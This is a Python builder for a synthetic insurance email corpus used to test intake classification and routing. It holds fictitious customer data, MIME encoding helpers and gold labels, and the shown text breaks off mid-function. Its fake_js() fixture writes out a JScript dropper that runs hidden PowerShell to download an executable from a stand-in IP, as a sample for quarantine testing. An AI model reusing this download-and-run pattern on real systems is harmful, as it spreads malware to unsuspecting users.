"""Builder for the IEIM sample corpus (data/samples).

The mails themselves are written by hand in mails_*.py; this module holds the
identity data (single source for the CSVs), a small RFC 5322 / MIME writer
(CRLF, RFC 2047, RFC 2231, quoted-printable, base64) and the gold-label helpers.
Gold intents, flags, identity status and queue are chosen by hand per mail;
action and needs_review are derived from CONTRACT-V1 section 5 and the hand
queue is asserted against the section-5 derivation.

Standard library only, deterministic output.
"""
import base64
import datetime as dt
import hashlib
import html
import re

INSURER = "lindenhof-versicherung.example"
CLAIMS_DE = f"schaden@{INSURER}"
SERVICE_DE = f"service@{INSURER}"
CLAIMS_EN = f"claims@{INSURER}"
SERVICE_EN = f"customerservice@{INSURER}"
PRIVACY_TO = f"datenschutz@{INSURER}"
COMPLAINTS_TO = f"beschwerde@{INSURER}"
LEGAL_TO = f"recht@{INSURER}"

# ---------------------------------------------------------------- identity data
# customer_id, full_name, email, phone, date_of_birth, postal_code
CUSTOMERS = [
    ("CU-1002345", "Jürgen Müller", "juergen.mueller@example.de", "+49 221 5550123", "1968-04-12", "50667"),
    ("CU-1002346", "Sabine Krüger", "sabine.krueger@example.de", "+49 40 5550198", "1975-09-03", "20095"),
    ("CU-1002347", "Thomas Weiß", "t.weiss@example.de;thomas.weiss.privat@example.org", "+49 89 5550456", "1981-01-22", "80331"),
    ("CU-1002348", "Anna Schneider", "anna.schneider@example.de", "+49 30 5550871", "1990-06-15", "10115"),
    ("CU-1002349", "Jens Brandt", "familie.brandt@example.de", "+49 511 5550332", "1972-11-30", "30159"),
    ("CU-1002350", "Petra Brandt", "familie.brandt@example.de", "+49 511 5550332", "1974-02-14", "30159"),
    ("CU-1002351", "Michael Schmidt", "michael.schmidt@example.de", "+49 711 5550910", "1979-05-05", "70173"),
    ("CU-1002352", "Michael Schmidt", "m.schmidt78@example.org", "+49 341 5550264", "1985-08-19", "04109"),
    ("CU-1002353", "Günther Höfler", "g.hoefler@example.de", "+49 911 5550777", "1952-03-08", "90402"),
    ("CU-1002354", "Zeynep Yilmaz", "zeynep.yilmaz@example.de", "+49 69 5550345", "1988-12-01", "60311"),
    ("CU-1002355", "Katharina Vogel", "k.vogel@example.de", "+49 351 5550612", "1966-07-21", "01067"),
    ("CU-1002356", "Lukas Becker", "lukas.becker@example.de", "+49 251 5550188", "1995-10-10", "48143"),
    ("CU-1002357", "Renate Böhm", "renate.boehm@example.de", "+49 941 5550420", "1943-04-02", "93047"),
    ("CU-1002358", "Stefan Wagner", "stefan.wagner@example.de", "+49 421 5550733", "1970-02-28", "28195"),
    ("CU-1002359", "Claudia Fischer", "claudia.fischer@example.de", "+49 6131 555094", "1983-03-17", "55116"),
    ("CU-1002360", "Dieter Schäfer", "dieter.schaefer@example.de", "+49 681 5550552", "1958-09-09", "66111"),
    ("CU-1002361", "Monika Hoffmann", "monika.hoffmann@example.de", "+49 431 5550219", "1962-12-24", "24103"),
    ("CU-1002362", "Felix Zimmermann", "felix.zimmermann@example.de", "+49 761 5550648", "1992-04-30", "79098"),
    ("CU-1002363", "Elif Demir", "elif.demir@example.de", "+49 231 5550903", "1987-01-13", "44135"),
    ("CU-1002364", "Hans-Peter Lange", "hp.lange@example.de", "+49 381 5550117", "1955-06-06", "18055"),
    ("CU-1002365", "Ursula Kühn", "ursula.kuehn@example.de", "+49 361 5550486", "1949-08-14", "99084"),
    ("CU-1002366", "Maximilian Graf", "max.graf@example.de", "+49 821 5550675", "1998-11-11", "86150"),
    ("CU-1002367", "Sophie Lehmann", "sophie.lehmann@example.de", "+49 331 5550391", "1993-05-25", "14467"),
    ("CU-1002368", "James Whitfield", "james.whitfield@example.com", "+44 20 7946 0123", "1976-03-14", "SW1A 2AA"),
    ("CU-1002369", "Emily Clarke", "emily.clarke@example.com", "+49 30 5550642", "1989-07-07", "10405"),
    ("CU-1002370", "Oliver Bennett", "oliver.bennett@example.com", "+49 89 5550287", "1984-02-02", "81675"),
    ("CU-1002371", "Sarah O'Connor", "sarah.oconnor@example.org", "+49 69 5550734", "1979-10-19", "60594"),
    ("CU-1002372", "David Miller", "d.miller@example.com", "+49 40 5550865", "1965-01-30", "20249"),
    ("CU-1002373", "Priya Sharma", "priya.sharma@example.com", "+49 611 5550143", "1991-09-12", "65183"),
    ("CU-1002374", "Thomas Wright", "tom.wright@example.com", "+49 211 5550508", "1972-06-18", "40213"),
    ("CU-1002375", "Hannah Fletcher", "hannah.fletcher@example.org", "+44 161 496 0457", "1996-04-04", "M1 1AE"),
    ("CU-1002376", 'Klaus "Kalle" Peters', "info@zum-anker.example.de", "+49 4651 555032", "1961-05-17", "25980"),
    ("CU-1002377", "Margaret Ellis", "margaret.ellis@example.com", "+49 40 5550126", "1940-12-05", "22587"),
    ("CU-1002378", "Daniel Hughes", "daniel.hughes@example.com", "+49 221 5550940", "1987-08-08", "50935"),
    ("CU-1002379", "Laura Bianchi", "laura.bianchi@example.org", "+49 89 5550371", "1990-03-03", "80799"),
    ("CU-1002380", "Chris Taylor", "chris.taylor@example.com", "+49 30 5550459", "1983-11-27", "10997"),
    ("CU-1002381", "Mark Johnson", "mark.johnson@example.com", "+49 221 5550218", "1969-04-19", "50937"),
    ("CU-1002382", "Rachel Moore", "rachel.moore@example.com", "+49 69 5550692", "1994-02-11", "60322"),
    ("CU-1002383", "Ingrid Neumann", "ingrid.neumann@example.de", "+49 561 5550324", "1960-10-01", "34117"),
    ("CU-1002384", "Tobias Richter", "tobias.richter@example.de", "+49 391 5550781", "1986-07-29", "39104"),
    ("CU-1002385", "Julia Wolf", "julia.wolf@example.de", "+49 621 5550157", "1997-01-05", "68159"),
    ("CU-1002386", "Ahmet Kaya", "ahmet.kaya@example.de", "+49 203 5550496", "1980-05-20", "47051"),
]

# policy_id, customer_id, product_line, status, start_date, end_date
POLICIES = [
    ("KF-20481234", "CU-1002345", "KF", "ACTIVE", "2019-03-01", ""),
    ("HR-31002245", "CU-1002345", "HR", "CANCELLED", "2015-01-01", "2023-12-31"),
    ("KF-20483310", "CU-1002346", "KF", "ACTIVE", "2021-07-01", ""),
    ("HR-31004512", "CU-1002346", "HR", "ACTIVE", "2018-05-01", ""),
    ("WG-40019856", "CU-1002347", "WG", "ACTIVE", "2010-09-01", ""),
    ("KF-20487702", "CU-1002347", "KF", "ACTIVE", "2022-02-01", ""),
    ("HR-31008861", "CU-1002348", "HR", "ACTIVE", "2023-04-01", ""),
    ("KF-20489915", "CU-1002349", "KF", "ACTIVE", "2016-01-01", ""),
    ("WG-40022231", "CU-1002349", "WG", "ACTIVE", "2012-06-01", ""),
    ("KF-20491102", "CU-1002350", "KF", "ACTIVE", "2020-03-15", ""),
    ("LV-70031456", "CU-1002350", "LV", "ACTIVE", "2005-01-01", ""),
    ("KF-20492277", "CU-1002351", "KF", "ACTIVE", "2017-09-01", ""),
    ("PH-55019034", "CU-1002351", "PH", "ACTIVE", "2017-09-01", ""),
    ("HR-31011290", "CU-1002352", "HR", "ACTIVE", "2021-01-01", ""),
    ("RS-60014477", "CU-1002352", "RS", "ACTIVE", "2021-01-01", ""),
    ("RS-60011123", "CU-1002353", "RS", "ACTIVE", "2014-04-01", ""),
    ("KF-20478890", "CU-1002353", "KF", "CANCELLED", "2009-05-01", "2024-10-31"),
    ("KF-20493348", "CU-1002354", "KF", "ACTIVE", "2022-08-01", ""),
    ("RE-80004521", "CU-1002354", "RE", "LAPSED", "2023-06-01", "2024-05-31"),
    ("KV-90012345", "CU-1002355", "KV", "ACTIVE", "2008-01-01", ""),
    ("HR-31012876", "CU-1002355", "HR", "ACTIVE", "2011-03-01", ""),
    ("PH-55021456", "CU-1002356", "PH", "ACTIVE", "2024-10-01", ""),
    ("HR-31006620", "CU-1002357", "HR", "ACTIVE", "1998-01-01", ""),
    ("WG-40017745", "CU-1002357", "WG", "ACTIVE", "1998-01-01", ""),
    ("LV-70028811", "CU-1002357", "LV", "ACTIVE", "1996-07-01", ""),
    ("KF-20479981", "CU-1002358", "KF", "ACTIVE", "2015-02-01", ""),
    ("KF-20494410", "CU-1002358", "KF", "ACTIVE", "2023-03-01", ""),
    ("KV-90014567", "CU-1002359", "KV", "ACTIVE", "2019-01-01", ""),
    ("WG-40020014", "CU-1002360", "WG", "ACTIVE", "2001-10-01", ""),
    ("HR-31009932", "CU-1002360", "HR", "ACTIVE", "2001-10-01", ""),
    ("LV-70033120", "CU-1002361", "LV", "ACTIVE", "2002-12-01", ""),
    ("HR-31003345", "CU-1002361", "HR", "LAPSED", "2016-01-01", "2022-12-31"),
    ("KF-20495521", "CU-1002362", "KF", "ACTIVE", "2020-05-01", ""),
    ("RE-80007789", "CU-1002362", "RE", "ACTIVE", "2025-01-01", ""),
    ("HR-31013344", "CU-1002363", "HR", "ACTIVE", "2020-09-01", ""),
    ("WG-40015567", "CU-1002364", "WG", "ACTIVE", "1995-04-01", ""),
    ("KF-20476654", "CU-1002364", "KF", "ACTIVE", "2012-11-01", ""),
    ("KV-90010022", "CU-1002365", "KV", "ACTIVE", "2000-01-01", ""),
    ("KF-20496673", "CU-1002366", "KF", "CANCELLED", "2024-02-01", "2026-01-31"),
    ("HR-31014455", "CU-1002367", "HR", "ACTIVE", "2021-06-01", ""),
    ("PH-55023367", "CU-1002367", "PH", "ACTIVE", "2021-06-01", ""),
    ("KF-20497784", "CU-1002368", "KF", "ACTIVE", "2023-09-01", ""),
    ("HR-31015566", "CU-1002369", "HR", "ACTIVE", "2022-01-01", ""),
    ("KF-20498895", "CU-1002370", "KF", "ACTIVE", "2021-11-01", ""),
    ("KV-90016678", "CU-1002371", "KV", "ACTIVE", "2018-07-01", ""),
    ("WG-40023345", "CU-1002372", "WG", "ACTIVE", "2016-05-01", ""),
    ("HR-31016677", "CU-1002372", "HR", "ACTIVE", "2016-05-01", ""),
    ("LV-70035567", "CU-1002373", "LV", "ACTIVE", "2020-02-01", ""),
    ("KF-20500017", "CU-1002374", "KF", "ACTIVE", "2019-08-01", ""),
    ("RE-80009901", "CU-1002375", "RE", "ACTIVE", "2025-06-01", ""),
    ("WG-40024456", "CU-1002376", "WG", "ACTIVE", "2007-03-01", ""),
    ("HR-31018899", "CU-1002377", "HR", "ACTIVE", "1999-01-01", ""),
    ("LV-70036678", "CU-1002377", "LV", "ACTIVE", "1985-01-01", ""),
    ("KF-20501128", "CU-1002378", "KF", "ACTIVE", "2024-04-01", ""),
    ("PH-55025589", "CU-1002379", "PH", "ACTIVE", "2022-10-01", ""),
    ("KV-90017789", "CU-1002380", "KV", "ACTIVE", "2021-03-01", ""),
    ("KF-20502239", "CU-1002381", "KF", "ACTIVE", "2018-06-01", ""),
    ("WG-40025567", "CU-1002381", "WG", "ACTIVE", "2018-06-01", ""),
    ("HR-31019900", "CU-1002382", "HR", "LAPSED", "2022-04-01", "2025-03-31"),
    ("LV-70037789", "CU-1002383", "LV", "ACTIVE", "2004-09-01", ""),
    ("RS-60019901", "CU-1002384", "RS", "ACTIVE", "2023-01-01", ""),
    ("KF-20503340", "CU-1002385", "KF", "ACTIVE", "2024-07-01", ""),
    ("KF-20504451", "CU-1002386", "KF", "ACTIVE", "2021-02-01", ""),
]

# claim_id, policy_id, status, loss_date
CLAIMS = [
    ("SC-2026-004512", "KF-20481234", "OPEN", "2026-01-09"),
    ("SC-2026-004377", "HR-31004512", "OPEN", "2026-01-03"),
    ("SC-2026-003921", "WG-40019856", "OPEN", "2025-12-28"),
    ("SC-2026-005108", "HR-31008861", "OPEN", "2026-01-20"),
    ("SC-2025-018834", "KF-20489915", "CLOSED", "2025-08-14"),
    ("SC-2026-004950", "KF-20492277", "OPEN", "2026-01-15"),
    ("SC-2026-002214", "RS-60011123", "OPEN", "2025-12-01"),
    ("SC-2026-006031", "KV-90012345", "OPEN", "2026-01-26"),
    ("SC-2026-005577", "PH-55021456", "OPEN", "2026-01-22"),
    ("SC-2026-006402", "LV-70028811", "OPEN", "2026-01-28"),
    ("SC-2025-021177", "KF-20479981", "CLOSED", "2025-10-02"),
    ("SC-2026-003380", "KV-90014567", "OPEN", "2026-01-08"),
    ("SC-2026-004021", "WG-40020014", "OPEN", "2026-01-05"),
    ("SC-2025-016650", "HR-31013344", "CLOSED", "2025-06-30"),
    ("SC-2026-005890", "KF-20476654", "OPEN", "2026-01-24"),
    ("SC-2026-004788", "KF-20497784", "OPEN", "2026-01-17"),
    ("SC-2026-005233", "HR-31015566", "OPEN", "2026-01-21"),
    ("SC-2026-006115", "KF-20498895", "OPEN", "2026-01-29"),
    ("SC-2025-019902", "KV-90016678", "CLOSED", "2025-09-11"),
    ("SC-2026-003695", "WG-40023345", "OPEN", "2026-01-07"),
    ("SC-2026-005412", "RE-80009901", "OPEN", "2026-01-12"),
    ("SC-2026-004266", "WG-40024456", "OPEN", "2026-01-10"),
    ("SC-2026-006588", "KF-20501128", "OPEN", "2026-02-03"),
    ("SC-2026-005045", "KF-20503340", "OPEN", "2026-01-18"),
    ("SC-2026-006720", "KF-20504451", "OPEN", "2026-02-05"),
]

CUST = {c[0]: c for c in CUSTOMERS}
POL = {p[0]: p for p in POLICIES}
CLM = {c[0]: c for c in CLAIMS}


def active_policies(cid):
    return [p[0] for p in POLICIES if p[1] == cid and p[3] == "ACTIVE"]


def single_active(cid):
    a = active_policies(cid)
    return a[0] if len(a) == 1 else None


# ---------------------------------------------------------------- identity gold helpers
def _ident(status, customer=None, policy=None, claim=None, unmatched=()):
    return {"status": status, "customer_id": customer, "policy_id": policy,
            "claim_id": claim, "unmatched_references": list(unmatched)}


def by_claim(claim_id, unmatched=()):
    pol = CLM[claim_id][1]
    return _ident("CONFIRMED", POL[pol][1], pol, claim_id, unmatched)


def by_policy(policy_id, unmatched=()):
    return _ident("CONFIRMED", POL[policy_id][1], policy_id, None, unmatched)


def by_customer(cid, unmatched=()):
    assert cid in CUST, cid
    return _ident("CONFIRMED", cid, single_active(cid), None, unmatched)


def by_sender(cid, unmatched=()):
    assert cid in CUST, cid
    return _ident("PROBABLE", cid, single_active(cid), None, unmatched)


def by_name(cid, unmatched=()):
    # Contract 4 states the one-ACTIVE-policy rule for the sender case only; the
    # corpus uses name-based matches only for customers where both readings agree.
    assert cid in CUST, cid
    assert len(active_policies(cid)) != 1, cid
    return _ident("PROBABLE", cid, None, None, unmatched)


def ambiguous(unmatched=()):
    return _ident("AMBIGUOUS", unmatched=unmatched)


def not_found(unmatched=()):
    return _ident("NOT_FOUND", unmatched=unmatched)


# ---------------------------------------------------------------- routing (contract 5)
ROUTE8 = {"CLAIM_NEW": "CLAIMS_INTAKE", "CLAIM_UPDATE": "CLAIMS_HANDLING",
          "POLICY_CHANGE": "POLICY_SERVICE", "DOCUMENT_REQUEST": "POLICY_SERVICE",
          "CANCELLATION": "CANCELLATIONS", "BILLING": "BILLING",
          "QUOTE_REQUEST": "SALES", "GENERAL_INQUIRY": "GENERAL"}
NEEDS_CONTRACT = {"CLAIM_UPDATE", "POLICY_CHANGE", "CANCELLATION", "BILLING", "DOCUMENT_REQUEST"}


def route(parseable, primary, intents, flags, ident, unclear):
    """Returns (rule, queue, action, needs_review)."""
    if not parseable or "MALWARE_SUSPECT" in flags:
        return 1, "SECURITY_QUARANTINE", "QUARANTINE", True
    if primary in ("AUTO_REPLY", "SPAM"):
        return 2, "NO_ACTION", "NO_ACTION", False
    if "LEGAL" in intents or "LEGAL_THREAT" in flags:
        rule, queue = 3, "LEGAL"
    elif "PRIVACY_REQUEST" in intents:
        rule, queue = 4, "PRIVACY"
    elif "COMPLAINT" in intents or "REGULATOR_ESCALATION" in flags:
        rule, queue = 5, "COMPLAINTS"
    elif ident["status"] == "AMBIGUOUS":
        return 6, "REVIEW_IDENTITY", "REVIEW", True
    elif unclear:
        return 7, "REVIEW_CLASSIFICATION", "REVIEW", True
    else:
        rule, queue = 8, ROUTE8[primary]
    if primary == "CLAIM_UPDATE" and ident["status"] == "CONFIRMED" and ident["claim_id"]:
        action = "ATTACH_TO_CLAIM"
    elif primary in NEEDS_CONTRACT and ident["status"] == "NOT_FOUND":
        action = "REQUEST_INFO"
    else:
        action = "CREATE_CASE"
    needs_review = action in ("REVIEW", "REQUEST_INFO", "QUARANTINE") or queue in ("LEGAL", "PRIVACY")
    return rule, queue, action, needs_review


# ---------------------------------------------------------------- MIME writer
CRLF = "\r\n"


def _q_encode_word_bytes(b):
    out = []
    for ch in b:
        c = chr(ch)
        if c == " ":
            out.append("_")
        elif (c.isascii() and c.isalnum()) or c in "!*+-/":
            out.append(c)
        else:
            out.append("=%02X" % ch)
    return "".join(out)


def encode_words(text, charset="utf-8", enc="Q"):
    """RFC 2047 encoded words, each at most 75 characters, split on character boundaries."""
    label = charset.upper() if charset.lower() != "utf-8" else "UTF-8"
    prefix = f"=?{label}?{enc}?"
    words, cur = [], ""

    def size(s):
        b = s.encode(charset)
        body = base64.b64encode(b).decode() if enc == "B" else _q_encode_word_bytes(b)
        return len(prefix) + len(body) + 2, body

    for ch in text:
        if size(cur + ch)[0] > 75:
            words.append(size(cur)[1])
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(size(cur)[1])
    return [prefix + w + "?=" for w in words]


def header_line(name, value_parts):
    """value_parts: list of tokens; folds with CRLF SP between tokens when the line gets long."""
    line = name + ": "
    lines = []
    for i, tok in enumerate(value_parts):
        sep = "" if i == 0 else " "
        if i > 0 and len(line) + len(sep) + len(tok) > 76:
            lines.append(line)
            line = " " + tok
        else:
            line += sep + tok
    lines.append(line)
    return CRLF.join(lines)


def enc_header(name, text, style=None):
    """style: None (plain ASCII), 'Q-utf-8', 'B-utf-8', 'Q-iso-8859-1', 'B-iso-8859-1'."""
    if style is None:
        assert text.isascii(), (name, text)
        return header_line(name, text.split(" ")) if len(name) + len(text) > 76 else f"{name}: {text}"
    enc, charset = style.split("-", 1)
    return header_line(name, encode_words(text, charset, enc))


def addr(display, email, style=None):
    """Formats a mailbox; non-ASCII display names are RFC 2047 encoded."""
    if not display:
        return email
    if display.isascii():
        if re.search(r'[,."()<>@;:]', display):
            return '"' + display.replace('"', '\\"') + '" <' + email + ">"
        return f"{display} <{email}>"
    enc, charset = (style or "Q-utf-8").split("-", 1)
    return " ".join(encode_words(display, charset, enc)) + f" <{email}>"


def qp_encode(text, charset):
    """Quoted-printable body with CRLF line ends and soft breaks at 76."""
    out_lines = []
    for line in text.split("\n"):
        b = line.encode(charset)
        enc = []
        for i, ch in enumerate(b):
            c = chr(ch)
            if ch == 0x3D or ch > 126 or (ch < 32 and ch != 9):
                enc.append("=%02X" % ch)
            elif c in " \t" and i == len(b) - 1:
                enc.append("=%02X" % ch)
            else:
                enc.append(c)
        cur = ""
        for tok in enc:
            if len(cur) + len(tok) > 75:
                out_lines.append(cur + "=")
                cur = tok
            else:
                cur += tok
        out_lines.append(cur)
    return CRLF.join(out_lines)


def b64_lines(data):
    s = base64.b64encode(data).decode()
    return CRLF.join(s[i:i + 76] for i in range(0, len(s), 76))


class Part:
    def __init__(self, headers, body, children=None, boundary=None):
        self.headers = headers          # list of already formatted header lines
        self.body = body                # str (ASCII / 8bit) for leaves
        self.children = children or []
        self.boundary = boundary

    def render(self):
        if not self.children:
            return self.headers, self.body
        out = []
        for ch in self.children:
            h, b = ch.render()
            out.append("--" + self.boundary)
            out.extend(h)
            out.append("")
            out.append(b)
        out.append("--" + self.boundary + "--")
        out.append("")
        return self.headers, CRLF.join(out)


def text_part(text, subtype="plain", charset="utf-8", cte="8bit", fmt_flowed=False):
    text = text.replace("\r\n", "\n")
    cs = '"' + charset + '"' if subtype == "html" else charset
    ct = f"Content-Type: text/{subtype}; charset={cs}"
    if fmt_flowed:
        ct += "; format=flowed"
    if cte == "quoted-printable":
        body = qp_encode(text, charset)
    elif cte == "base64":
        body = b64_lines(text.replace("\n", "\r\n").encode(charset))
    else:
        body = text.replace("\n", CRLF)
        if cte == "7bit":
            assert body.isascii()
    return Part([ct, f"Content-Transfer-Encoding: {cte}"], body)


def to_html(text, style="plain", charset="utf-8"):
    """Turns hand-written plain text into the kind of HTML mail clients send.
    Lines starting with '>' become a blockquote; blank lines separate paragraphs."""
    lines = text.replace("\r\n", "\n").split("\n")
    chunks, cur_q, cur_p = [], [], []

    def flush_p():
        if cur_p:
            chunks.append("<p>" + "<br>\n".join(html.escape(x) for x in cur_p) + "</p>")
            cur_p.clear()

    def flush_q():
        if cur_q:
            inner = to_html("\n".join(x[1:].lstrip(" ") if x.startswith(">") else x for x in cur_q), style, charset)
            inner = re.sub(r"^<html>.*?<body[^>]*>|</body></html>$", "", inner, flags=re.S)
            chunks.append('<blockquote type="cite" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">'
                          + inner + "</blockquote>")
            cur_q.clear()

    for ln in lines:
        if ln.startswith(">"):
            flush_p()
            cur_q.append(ln)
        elif ln.strip() == "":
            flush_p()
            flush_q()
        else:
            flush_q()
            cur_p.append(ln)
    flush_p()
    flush_q()
    font = {"plain": "font-family:Arial,sans-serif;font-size:11pt",
            "outlook": "font-family:Calibri,sans-serif;font-size:11pt",
            "web": "font-family:Verdana,Geneva,sans-serif;font-size:10pt"}[style]
    return (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset={charset}"></head>'
            f'<body><div style="{font}">\n' + "\n".join(chunks) + "\n</div></body></html>")


def attachment(filename, ctype, data, name_style="plain", inline=False):
    if name_style == "plain":
        assert filename.isascii()
        fn_ct = f'; name="{filename}"'
        fn_cd = f'; filename="{filename}"'
    elif name_style == "rfc2231":
        from urllib.parse import quote
        q = quote(filename.encode("utf-8"), safe="._-")
        fn_ct = ""
        fn_cd = f"; filename*=UTF-8''{q}"
    elif name_style == "rfc2047":
        w = encode_words(filename, "utf-8", "Q")
        fn_ct = f'; name="{" ".join(w)}"'
        fn_cd = f'; filename="{" ".join(w)}"'
    else:
        raise ValueError(name_style)
    disp = "inline" if inline else "attachment"
    return Part([f"Content-Type: {ctype}{fn_ct}", f"Content-Disposition: {disp}{fn_cd}",
                 "Content-Transfer-Encoding: base64"], b64_lines(data))


def multipart(subtype, children, boundary, extra=""):
    return Part([f'Content-Type: multipart/{subtype}; boundary="{boundary}"{extra}'], "", children, boundary)


# ---------------------------------------------------------------- synthetic attachment bytes
def fake_pdf(title):
    t = title.encode("latin-1", "replace")
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
            b"4 0 obj\n<< /Title (" + t + b") /Producer (Scanner) >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R /Info 4 0 R >>\n%%EOF\n")


def fake_jpeg(seed):
    h = hashlib.sha256(seed.encode()).digest() * 6
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + h + b"\xff\xd9"


def fake_exe(seed):
    h = hashlib.sha256(seed.encode()).digest() * 4
    return (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 +
            b"\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
            + b"\x00" * 7 + b"PE\x00\x00L\x01\x03\x00" + h)


def fake_zip_office(seed, macro=True):
    # A tiny ZIP whose entry names mark an Office macro document (vbaProject.bin).
    names = [b"[Content_Types].xml", b"word/document.xml"] + ([b"word/vbaProject.bin"] if macro else [])
    out = b""
    for n in names:
        out += b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + bytes([len(n), 0, 0, 0]) + n
    return out + hashlib.sha256(seed.encode()).digest() + b"PK\x05\x06" + b"\x00" * 18


def fake_js():
    return (b"var a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c'];\n"
            b"var s=new ActiveXObject(a[0]);var u='hxxp://203.0.113.77/inv.php';\n"
            b"s.Run('powershell -w hidden -c \"iwr '+u+' -o %TEMP%\\\\x.exe\"',0);\n")


# ---------------------------------------------------------------- message assembly
UA = {
    "thunderbird": "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.6.0",
    "outlook": "X-Mailer: Microsoft Outlook 16.0",
    "apple": "X-Mailer: Apple Mail (2.3826.300.87.4.3)",
    "iphone": "X-Mailer: iPhone Mail (22C152)",
    "roundcube": "User-Agent: Roundcube Webmail/1.6.9",
    "gmail": None,
    None: None,
}

MAILS = []
RAW = []  # hand-built raw files: (file, bytes, gold)

_DOC_IPS = ["192.0.2.", "198.51.100.", "203.0.113."]


def rfc_date(s):
    # "2026-01-12 08:14:33 +0100"
    d = dt.datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")
    from email.utils import format_datetime
    return format_datetime(d)


def make_msgid(fname, sender, style):
    h = hashlib.sha1(fname.encode()).hexdigest()
    dom = sender.split("@")[1].rstrip(">")
    if style == "gmail":
        b = base64.urlsafe_b64encode(hashlib.sha256(fname.encode()).digest()).decode()[:38].replace("-", "+")
        return f"<CAH{b}@mail.gmail.example>"
    if style == "outlook":
        return f"<{h[:8].upper()}{h[8:20].upper()}@{dom.split('.')[0].upper()}PR03MB{int(h[20:24], 16)}.eurprd03.prod.outlook.example>"
    if style == "apple":
        u = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}".upper()
        return f"<{u}@{dom}>"
    return f"<{h[:12]}.{int(h[12:20], 16) % 1000000:06d}@{dom}>"


def mail(file, lang, frm, to, date, subject, body=None, *, subj_enc=None, shape="plain", charset="utf-8",
         cte="8bit", html_body=None, html_style="plain", attachments=(), cc=None, reply_to=None,
         extra_headers=(), client=None, msgid_style=None, in_reply_to=None, gold=None, alt_cte=None,
         root=None, return_path=None):
    """frm/to: (display, email) or email.  shape: plain | html | alt | none (attachment only, no text part)
    | emptytext (empty text/plain part plus attachments)."""
    assert gold is not None, file
    MAILS.append(dict(file=file, lang=lang, frm=frm, to=to, date=date, subject=subject, body=body,
                      subj_enc=subj_enc, shape=shape, charset=charset, cte=cte, html_body=html_body,
                      html_style=html_style, attachments=list(attachments), cc=cc, reply_to=reply_to,
                      extra_headers=list(extra_headers), client=client, msgid_style=msgid_style,
                      in_reply_to=in_reply_to, gold=gold, alt_cte=alt_cte, root=root,
                      return_path=return_path))


def G(primary, intents=None, flags=(), ident=None, queue=None, unclear=False, notes=""):
    intents = list(intents) if intents else [primary]
    assert intents[0] == primary, "primary intent comes first in intents"
    return dict(primary=primary, intents=intents, flags=list(flags), ident=ident, queue=queue,
                unclear=unclear, notes=notes)


def _fmt_addr(a):
    if isinstance(a, tuple):
        return addr(*a)
    return a


def _email_of(a):
    return a[1] if isinstance(a, tuple) else re.sub(r".*<|>.*", "", a)


def build(m):
    fname = m["file"]
    h = hashlib.sha1(fname.encode()).hexdigest()
    sender = _email_of(m["frm"])
    msgid = make_msgid(fname, sender, m["msgid_style"] or {"outlook": "outlook", "apple": "apple", "iphone": "apple",
                                                            "gmail": "gmail"}.get(m["client"], "plain"))
    ip = _DOC_IPS[int(h[0], 16) % 3] + str(int(h[1:3], 16) % 200 + 10)
    sdom = sender.split("@")[1]
    recv_dt = dt.datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z") + dt.timedelta(seconds=int(h[3:5], 16) % 50 + 2)
    from email.utils import format_datetime
    hdr = [
        f"Return-Path: <{sender if m['return_path'] is None else m['return_path']}>",
        f"Received: from mail.{sdom} (mail.{sdom} [{ip}])" + CRLF +
        f"\tby mx1.{INSURER} (Postfix) with ESMTPS id {h[5:15].upper()}" + CRLF +
        f"\tfor <{_email_of(m['to'])}>; {format_datetime(recv_dt)}",
        f"Date: {rfc_date(m['date'])}",
        "From: " + _fmt_addr(m["frm"]),
        "To: " + _fmt_addr(m["to"]),
    ]
    if m["cc"]:
        hdr.append("Cc: " + _fmt_addr(m["cc"]))
    if m["reply_to"]:
        hdr.append("Reply-To: " + _fmt_addr(m["reply_to"]))
    if m["subject"] is not None:
        hdr.append(enc_header("Subject", m["subject"], m["subj_enc"]))
    hdr.append(f"Message-ID: {msgid}")
    if m["in_reply_to"]:
        hdr.append(f"In-Reply-To: {m['in_reply_to']}")
        hdr.append(f"References: {m['in_reply_to']}")
    ua = UA.get(m["client"])
    if ua:
        hdr.append(ua)
    hdr.extend(m["extra_headers"])
    hdr.append("MIME-Version: 1.0")

    body = m["body"]
    shape = m["shape"]
    if m["root"] is not None:
        root = m["root"]
    elif shape == "plain":
        root = text_part(body, "plain", m["charset"], m["cte"])
    elif shape == "html":
        root = text_part(m["html_body"] or to_html(body, m["html_style"], m["charset"]), "html", m["charset"], m["cte"])
    elif shape == "alt":
        root = multipart("alternative", [
            text_part(body, "plain", m["charset"], m["cte"]),
            text_part(m["html_body"] or to_html(body, m["html_style"], m["charset"]), "html", m["charset"],
                      m["alt_cte"] or m["cte"]),
        ], f"000000000000{h[:16]}")
    elif shape in ("none", "emptytext"):
        root = None
    else:
        raise ValueError(shape)

    if m["attachments"] and m["root"] is None:
        kids = []
        if shape == "emptytext":
            kids.append(text_part("", "plain", "utf-8", "7bit"))
        elif root is not None:
            kids.append(root)
        for a in m["attachments"]:
            kids.append(attachment(*a) if isinstance(a, tuple) else a)
        root = multipart("mixed", kids, f"----=_Part_{int(h[:6], 16)}_{int(h[6:12], 16)}.{int(h[12:20], 16)}")
    else:
        assert root is not None, fname

    top, b = root.render()
    lines = hdr + top
    if root.children:
